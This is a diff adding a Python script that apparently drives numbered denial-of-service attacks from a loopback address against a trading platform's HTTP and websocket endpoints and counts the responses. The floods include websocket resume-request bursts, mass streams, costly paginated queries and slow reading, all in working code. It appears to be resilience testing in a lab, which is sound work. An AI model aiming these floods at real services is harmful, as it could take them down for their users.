@@ -1,0 +1,256 @@
+"""One attack at full speed from 127.0.0.2, on one core of its own.
+
+    flood.py SITE SECONDS OUT CORE NAME
+
+NAME is one of ATTACKS, or `quiet`: a loop that only takes the core. It reads answers to count statuses. OUT
+gets the counts.
+"""
+
+import asyncio
+import base64
+import collections
+import json
+import os
+import resource
+import struct
+import sys
+import time
+
+from attacker import SOURCE, Counted
+from client import Client
+from wallets import Wallet, body_of, request, signed_request
+
+# Requests of one message: as many as a server takes.
+REQUESTS = 1_000
+PIPELINED = 64
+# Larger than what a connection may leave unsent, so that writing waits for the server.
+UNSENT = 256 << 10
+
+
+def masked(text):
+    """A text frame of a client."""
+    data = text.encode()
+    key = b"\0\0\0\0"  # a mask of zeros is a mask
+    size = struct.pack(">BH", 0xFE, len(data)) if len(data) < 1 << 16 else struct.pack(">BQ", 0xFF, len(data))
+    return b"\x81" + size + key + data
+
+
+def upgrade(path):
+    fields = {
+        "Upgrade": "websocket",
+        "Connection": "Upgrade",
+        "Sec-WebSocket-Version": "13",
+        "Sec-WebSocket-Key": base64.b64encode(os.urandom(16)).decode(),
+    }
+    return request("GET", path, fields)
+
+
+class Flood(Counted):
+    """A connection whose answers are counted; writing waits while much is unsent."""
+
+    def connection_made(self, transport):
+        super().connection_made(transport)
+        transport.set_write_buffer_limits(high=UNSENT)
+        self.writable, self.upgraded, self.changed = True, False, asyncio.Event()
+
+    def pause_writing(self):
+        self.writable = False
+
+    def resume_writing(self):
+        self.writable = True
+        self.changed.set()
+
+    def buffer_updated(self, length):
+        super().buffer_updated(length)
+        self.upgraded = self.upgraded or self.buffer[:length].startswith(b"HTTP/1.1 101")
+        self.counts["bytes read"] += length
+        self.changed.set()
+
+    def connection_lost(self, error):
+        super().connection_lost(error)
+        self.changed.set()
+
+    async def until(self, condition):
+        """Waits until the condition holds; says whether the connection is open."""
+        while self.open and not condition():
+            self.changed.clear()
+            await self.changed.wait()
+        return self.open
+
+
+class Attack:
+    def __init__(self, site):
+        self.site, self.counts = site, collections.Counter()
+        self.addresses = {name: tuple(address) for name, address in site["addresses"].items()}
+        self.token = site["markets"][0]["tokens"][0]
+
+    async def connect(self, surface="trading"):
+        opening = asyncio.get_running_loop().create_connection(
+            lambda: Flood(self.counts), *self.addresses[surface], local_addr=(SOURCE, 0)
+        )
+        try:
+            _, connection = await asyncio.wait_for(opening, 5)
+        except OSError:
+            self.counts["connections failed"] += 1
+            await asyncio.sleep(0.01)
+            return None
+        self.counts["connections"] += 1
+        return connection
+
+    async def stream(self):
+        """A stream of the market channel, or None."""
+        connection = await self.connect()
+        if connection is None or not connection.send(upgrade("/ws/market")):
+            return None
+        if not await connection.until(lambda: connection.answered) or not connection.upgraded:
+            connection.transport.abort()
+            return None
+        return connection
+
+    async def again(self, count, act):
+        """Runs `count` tasks that act over and over, whatever becomes of their connections."""
+
+        async def forever():
+            while True:
+                try:
+                    await act()
+                except OSError:
+                    self.counts["connections failed"] += 1
+                await asyncio.sleep(0)
+
+        await asyncio.gather(*(forever() for _ in range(count)))
+
+    async def gets(self, count, paths, surface="trading", pipelined=1, read=True):
+        """Requests on `count` connections, each as soon as there is room for it."""
+        numbers = iter(range(1 << 62))
+
+        async def act():
+            connection = await self.connect(surface)
+            if connection is None:
+                return
+            if not read:
+                connection.transport.pause_reading()
+            while await connection.until(lambda: connection.writable and connection.sent - connection.answered < pipelined):
+                connection.transport.write(request("GET", paths[next(numbers) % len(paths)]))
+                connection.sent += 1
+                self.counts["sent"] += 1
+                if not read:
+                    await asyncio.sleep(1)
+                    return connection.transport.abort()
+                if connection.sent % 16 == 0:
+                    await asyncio.sleep(0)  # so that the end of the connection is noticed
+
+        await self.again(count, act)
+
+    async def requests_on_streams(self):
+        """Messages of 1,000 resumes each, on 20 streams."""
+        client = Client(SOURCE, self.addresses["trading"])
+        _, _, fields = await client.answer(request("GET", f"/book?token_id={self.token}"))
+        ask = {"type": "market", "assets_ids": [self.token]}
+        first = masked(json.dumps(ask))
+        flood = masked(json.dumps([ask | {"resume_from": fields["x-sequence"]}] * REQUESTS))
+
+        async def act():
+            connection = await self.stream()
+            if connection is None:
+                return
+            connection.transport.write(first)
+            while await connection.until(lambda: connection.writable):
+                connection.transport.write(flood)
+                self.counts["sent"] += REQUESTS
+
+        await self.again(20, act)
+
+    async def replays(self):
+        """Resumes from the first frame, of markets that nobody reads; the client leaves at once."""
+        tokens = self.site["quiet"]["tokens"]
+        ask = masked(json.dumps({"type": "market", "assets_ids": tokens, "resume_from": "1"}))
+
+        async def act():
+            connection = await self.stream()
+            if connection is not None:
+                connection.transport.write(ask)
+                self.counts["sent"] += 1
+                await asyncio.sleep(0.2)
+                connection.transport.abort()
+
+        await self.again(20, act)
+
+    async def many_streams(self):
+        """As many streams as there are, on one market that the attacker's orders move."""
+        market, maker = self.site["quiet"], Wallet(**self.site["maker"])
+        ask = masked(json.dumps({"type": "market", "assets_ids": market["tokens"]}))
+
+        async def act():
+            connection = await self.stream()
+            if connection is not None:
+                connection.transport.write(ask)
+                self.counts["sent"] += 1
+                await connection.until(lambda: False)
+            await asyncio.sleep(0.1)
+
+        async def trade():
+            client = Client(SOURCE, self.addresses["trading"])
+            orders = [maker.buy(market["tokens"][0], 1 + number, 500) for number in range(15)]
+            await client.ask(signed_request(maker, "POST", "/orders", body_of(orders)))
+            await client.ask(signed_request(maker, "DELETE", "/cancel-all"))
+
+        await asyncio.gather(self.again(350, act), self.again(1, trade))
+
+    def sorted_activity(self):
+        maker = Wallet(**self.site["maker"]).address
+        query = f"user={maker}&sortBy=TOKENS&sortDirection=ASC&limit=100&offset=10000"
+        return self.gets(30, [f"/ui/api/data/activity?{query}"])
+
+    def large_pages(self):
+        return self.gets(300, ["/ui/api/data/trades?limit=10000&takerOnly=false"], read=False)
+
+    def pipelined(self):
+        return self.gets(8, [f"/book?token_id={self.token}"], pipelined=PIPELINED)
+
+    def catalog_pages(self):
+        paths = [f"/{kind}/keyset?limit=500" for kind in ("markets", "events")]
+        return self.gets(30, paths, "catalog")
+
+    async def quiet(self):
+        while True:
+            until = time.monotonic() + 0.05
+            while time.monotonic() < until:
+                pass
+            await asyncio.sleep(0)
+
+
+ATTACKS = {
+    "D1": Attack.requests_on_streams,
+    "D2": Attack.sorted_activity,
+    "D3": Attack.large_pages,
+    "D7": Attack.pipelined,
+    "D8": Attack.replays,
+    "D9": Attack.catalog_pages,
+    "D10": Attack.many_streams,
+    "quiet": Attack.quiet,
+}
+
+
+async def run(attack, name, seconds):
+    try:
+        await asyncio.wait_for(ATTACKS[name](attack), seconds)
+    except TimeoutError:
+        pass
+    return dict(attack.counts)
+
+
+def main():
+    site, seconds, out, core, name = sys.argv[1:]
+    os.sched_setaffinity(0, {int(core)})
+    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
+    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
+    with open(site, encoding="utf-8") as file:
+        attack = Attack(json.load(file))
+    counts = asyncio.run(run(attack, name, float(seconds)))
+    with open(out, "w", encoding="utf-8") as file:
+        json.dump({"counts": {name: counts}}, file)
+
+
+if __name__ == "__main__":
+    main()
